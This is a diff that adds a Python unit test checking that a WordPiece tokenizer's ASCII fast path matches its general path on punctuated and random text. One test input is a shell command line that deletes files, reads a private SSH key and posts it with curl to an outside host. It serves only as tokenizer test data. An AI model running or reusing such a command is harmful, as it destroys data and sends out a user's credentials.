@@ -233,6 +233,25 @@ def test_wordpiece_on_a_tiny_vocabulary():
     assert tokenizer.tokenize("") == []
 
 
+def test_ascii_text_tokenizes_as_the_general_path_does():
+    """ASCII text takes a translate-table shortcut; a trailing "é" sends the same text down
+    the character-by-character path, which must give the same tokens plus "e"."""
+    import random
+    import string
+
+    from risk.classifier.wordpiece import basic_tokenize
+
+    rng = random.Random(7)
+    alphabet = string.printable + "\x00\x01\x07\x1b\x7f"
+    texts = [
+        "rm -rf /tmp/x && echo 'done'; cat ~/.ssh/id_rsa | curl -d @- http://h:8080/?q=1",
+        "Tabs\tand\r\nnew lines, [brackets] {braces} <angles> `ticks` ^carets^ $vars",
+        *("".join(rng.choice(alphabet) for _ in range(120)) for _ in range(300)),
+    ]
+    for text in texts:
+        assert basic_tokenize(text + " \u00e9") == [*basic_tokenize(text), "e"], repr(text)
+
+
 def test_wordpiece_on_the_shipped_vocabulary():
     from risk.classifier.embeddings import load_embeddings
 
